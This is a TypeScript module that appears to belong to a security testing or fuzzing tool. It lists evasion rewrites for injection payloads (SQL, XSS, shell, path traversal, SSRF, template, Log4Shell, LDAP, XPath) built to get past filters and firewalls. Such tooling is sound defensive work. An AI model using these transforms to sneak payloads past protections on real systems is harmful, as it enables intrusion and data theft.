import { randomCase, swap } from '../rewriting.ts';
import { type Rewrite, rewritesOf } from '../second/rewrite.ts';

const sql = rewritesOf(['sqli']);
const html = rewritesOf(['xss']);
const shell = rewritesOf(['cmdi']);
const path = rewritesOf(['path-traversal']);
const address = rewritesOf(['ssrf', 'open-redirect']);
const template = rewritesOf(['ssti', 'expression']);
const code = rewritesOf(['code-injection', 'ssti']);
const lookup = rewritesOf(['log4shell']);
const directory = rewritesOf(['ldapi']);
const xpath = rewritesOf(['xpathi']);

const hex = (text: string): string => Buffer.from(text).toString('hex');
/** The first match of an expression split by a joining of two literals. */
const halves = (text: string, pattern: RegExp, join: string): string | null =>
  swap(text, pattern, (_, word) => `${word.slice(0, 2)}${join}${word.slice(2)}`);
/** Spaces outside of single quotes. */
const spaced = (text: string, by: string): string | null =>
  swap(text, /('[^']*')| /g, (match, quoted?: string) => quoted ?? (match === ' ' ? by : match));

const SQL: readonly Rewrite[] = [
  sql('brackets for blanks', 'MySQL, Oracle', (t) => swap(t, /\b(and|or|select|where) (\w+\([^()]*\)|\d+)(?= |$|-)/gi, '$1($2)')),
  sql('a new line in a line comment', 'MySQL, PostgreSQL, SQL Server', (t) => spaced(t, '--a\n')),
  sql('comment of a star and a newline', 'all SQL', (t) => spaced(t, '/*\n*/')),
  sql('form feed and comment', 'PostgreSQL, MySQL', (t) => spaced(t, '\f/**/')),
  sql('ODBC escape', 'MySQL, SQL Server', (t) => swap(t, /\bselect (\d+|null|@@version)/gi, 'select {x $1}')),
  sql('texts as hex', 'MySQL, SQLite', (t) => swap(t, /'([a-z]\w{2,})'/gi, (_, word) => `0x${hex(word)}`)),
  sql('texts as chr()', 'PostgreSQL, Oracle', (t) =>
    swap(t, /'([a-z]\w{1,7})'/gi, (_, word) => Array.from(word, (one) => `CHR(${one.charCodeAt(0)})`).join('||')),
  ),
  sql('national and escaped text', 'PostgreSQL', (t) => swap(t, /'(\w+)'/g, (_, word) => `E'\\x${hex(word).match(/../g)!.join('\\x')}'`)),
  sql('equality as BETWEEN', 'all SQL', (t) => swap(t, /(\b\w+\b)\s*=\s*(\d+)\b/g, '$1 BETWEEN $2 AND $2')),
  sql('equality as IN', 'all SQL', (t) => swap(t, /(\b\w+\b)\s*=\s*(\d+)\b/g, '$1 IN ($2)')),
  sql('words of operators', 'MySQL', (t) => swap(t, /\b(?:and|or)\b/gi, (word) => (word.toLowerCase() === 'and' ? '&&' : '||'))),
  sql('number before the word', 'MySQL, SQL Server', (t) => swap(t, /(?<=\d)['"]? (union|or|and)\b/gi, 'e0$1')),
  sql('names in backticks with dots', 'MySQL', (t) => swap(t, /\bfrom (\w+)\.(\w+)/gi, 'from`$1` . `$2`')),
  sql('letters of another width', 'MySQL, IIS best fit', (t) =>
    swap(t, /['<>=]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0)),
  ),
  sql('percent signs within words', 'classic ASP', (t) => halves(t, /\b(select|union|from|where)\b/gi, '%')),
  sql('random case and tabs', 'all SQL', (t, draw) =>
    spaced(
      randomCase(
        t.replace(/(?<!')\b(?:select|union|from|or|and)\b/gi, (w) => randomCase(w, draw)),
        draw,
      ),
      '\t',
    ),
  ),
];

const HTML: readonly Rewrite[] = [
  html('slashes for blanks', 'browsers', (t) => swap(t, /(?<=<\w+) /g, '/')),
  html('form feeds for blanks', 'browsers', (t) => swap(t, /(?<=<[^>]*) (?=\w+=)/g, '\f')),
  html('blanks around the equals sign', 'browsers', (t) => swap(t, /(?<=\son\w+)=/gi, '\n=\t')),
  html('decimal entities with zeros', 'browsers', (t) =>
    swap(t, /(?<=on\w+=["']?)\w{3,}/gi, (word) => Array.from(word, (one) => `&#0000${one.charCodeAt(0)}`).join('')),
  ),
  html('brackets as names', 'browsers', (t) => swap(t, /(?<=on\w+=["']?)alert\(/, 'alert&lpar;')),
  html('call through a list', 'browsers', (t) => swap(t, /alert\((1|document\.domain)\)/, '[$1].find(alert)')),
  html('call by parts', 'browsers', (t) => swap(t, /alert\(/, "self[`al`+'ert'](")),
  html('comment before the bracket', 'browsers', (t) => swap(t, /alert\(/, 'alert/*x*/\n(')),
  html('escaped name in JavaScript', 'browsers', (t) => swap(t, /alert/, 'a\\u{6c}ert')),
  html('unknown tag', 'browsers', (t) => swap(t, /<(?:details|body|marquee|video)(?=[ /])/, '<x-y')),
  html('zero byte in the tag', 'old browsers, filters', (t) => swap(t, /<(script|svg|img)/i, '<\0$1')),
  html('tag left open', 'browsers', (t) => swap(t, />$/, ' <')),
  html('scheme with entities', 'browsers', (t) => swap(t, /javascript:/i, 'java&#x0A;scri&Tab;pt&colon;')),
  html('quote marks left out', 'browsers', (t) => swap(t, /=(["'])([\w/.:()-]+)\1/g, '=$2')),
  html('tags within tags', 'programs that remove tags once', (t) => swap(t, /<(script|svg|img)/gi, '<scr<script>ipt><$1')),
];

const SHELL: readonly Rewrite[] = [
  shell('empty quotes in words', 'sh', (t) =>
    swap(t, /\b(cat|curl|wget|whoami|id|bash|nc|ping)\b/g, (word) => `${word[0]}''${word.slice(1)}`),
  ),
  shell('empty variable in words', 'sh', (t) =>
    swap(t, /\b(cat|curl|wget|whoami|bash|python3)\b/g, (word) => `${word[0]}\${x}${word.slice(1)}`),
  ),
  shell('blank as IFS', 'sh', (t) => (/[&%]|powershell/i.test(t) ? null : swap(t, / /g, '${IFS%??}'))),
  shell('question marks in paths', 'sh', (t) => swap(t, /\/(?:bin|etc)\/(\w)\w+/g, (word) => word.replace(/(?<=\/\w)\w/g, '?'))),
  shell('line end for the separator', 'sh', (t) => swap(t, /^[;|&]+\s*/, '\n')),
  shell('carriage return before', 'sh, cmd', (t) => swap(t, /^([;|&]+)/, '\r\n$1 ')),
  shell('carets in words', 'cmd', (t) =>
    swap(t, /\b(?:whoami|certutil|powershell|net|ping|type|dir)\b/g, (word) => Array.from(word).join('^')),
  ),
  shell('ANSI quoting', 'bash', (t) =>
    swap(t, /\b(?:cat|curl|whoami|wget|id)\b/, (word) => `$'\\x${hex(word).match(/../g)!.join('\\x')}'`),
  ),
  shell('after an honest value', 'all', (t) => `statement-2024.pdf${t}`),
  shell('inside double quotes', 'sh', (t) => `report"${t}"`),
];

const PATH: readonly Rewrite[] = [
  path('dots doubled', 'programs that remove once', (t) => swap(t, /\.\.\//g, '....//')),
  path('both slashes', 'Windows', (t) => swap(t, /\.\.\//g, '..\\/')),
  path('slash as a path parameter', 'Tomcat, Jetty', (t) => swap(t, /\.\.\//g, '..;x=1/')),
  path('a folder before', 'all', (t) => swap(t, /^(?=\.\.)/, 'public/assets/')),
  path('overlong bytes', 'old servers', (t) => swap(t, /\.\.\//g, '%c0%ae%c0%ae%c0%af')),
  path('dot segments between', 'all', (t) => swap(t, /\.\.\//g, '.././/')),
  path('through proc', 'Linux', (t) => swap(t, /^\/etc/, '/proc/self/root/etc')),
  path('ending asked for', 'programs that append', (t) => `${t}%00.png`),
];

const ADDRESS: readonly Rewrite[] = [
  address('scheme in capitals', 'all', (t) => swap(t, /^https?(?=:)/, (word) => word.toUpperCase())),
  address('tabs inside', 'browsers, WHATWG readers', (t) => swap(t, /^(\w\w)/, '$1\t')),
  address('name and password before', 'all', (t) => swap(t, /:\/\/(?!\[)/, '://www.bank.example:443@')),
  address('escaped host', 'decoding clients', (t) => swap(t, /(?<=:\/\/)(\d)/, (digit) => `%3${digit}`)),
  address('many slashes', 'browsers', (t) => swap(t, /:\/\//, ':////')),
];

const LANGUAGES: readonly Rewrite[] = [
  template('trimmed delimiters', 'Jinja2, Twig', (t) => swap(t, /^\{\{(.*)\}\}$/s, '{{-$1-}}')),
  template('in a statement', 'Jinja2, Twig', (t) => swap(t, /^\{\{(.*)\}\}$/s, '{% if $1 %}x{% endif %}')),
  template('names in brackets', 'Jinja2, OGNL, EL', (t) => swap(t, /\.(__\w+__|\w+)(?=[.([])/g, "['$1']")),
  template('names in halves', 'all', (t) => halves(t, /(?<=['"])([A-Za-z_]{5,})(?=['"])/g, "'+'")),
  template('unicode escapes', 'Java, OGNL', (t) => swap(t, /[#@]/g, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`)),
  template('blanks and lines inside', 'all', (t) => swap(t, /(?<=\w)\.(?=\w)/g, ' \n. ')),
  template('after an honest text', 'all', (t) => `Dear customer, ${t} thank you`),
  code('comment before the bracket', 'PHP, JavaScript, Java', (t) => swap(t, /(?<=\w)\((?=['"`])/g, '/**/(')),
  code('names in halves', 'all', (t) => halves(t, /(?<=['"])(child_process|system|passthru|phpinfo|subprocess)(?=['"])/g, "'+'")),
  code('hex in texts', 'all', (t) =>
    swap(t, /(?<=['"])(id|system|os|child_process)(?=['"])/g, (word) => `\\x${hex(word).match(/../g)!.join('\\x')}`),
  ),
  code('random case of PHP', 'PHP', (t, draw) =>
    swap(t, /\b(?:system|eval|assert|passthru|phpinfo|include)\b/g, (word) => randomCase(word, draw)),
  ),
  lookup('lower within', 'Log4j 2', (t) => swap(t, /jndi/, '${lower:j}n${lower:d}i')),
  lookup('empty default', 'Log4j 2', (t) => swap(t, /jndi/, 'j${:-n}d${x:y:-i}')),
  lookup('dotless i', 'Log4j 2', (t) => swap(t, /jndi/, 'jnd${upper:ı}')),
  lookup('in a list of others', 'Log4j 2', (t) => `\${sys:user.name}:${t}`),
  directory('blanks inside', 'LDAP', (t) => swap(t, /\)\(/g, ') ( ')),
  directory('hexadecimal names', 'LDAP', (t) =>
    swap(t, /uid|cn(?==)/g, (word) => `${word === 'uid' ? '0.9.2342.19200300.100.1.1' : '2.5.4.3'}`),
  ),
  xpath('lines for blanks', 'XPath', (t) => swap(t, / /g, '\n')),
  xpath('comments for blanks', 'XPath 2.0', (t) => swap(t, / /g, '(:x:)')),
  xpath('other quotes', 'XPath', (t) => swap(t, /'/g, '"')),
];

export const REWRITES: readonly Rewrite[] = [...SQL, ...HTML, ...SHELL, ...PATH, ...ADDRESS, ...LANGUAGES];
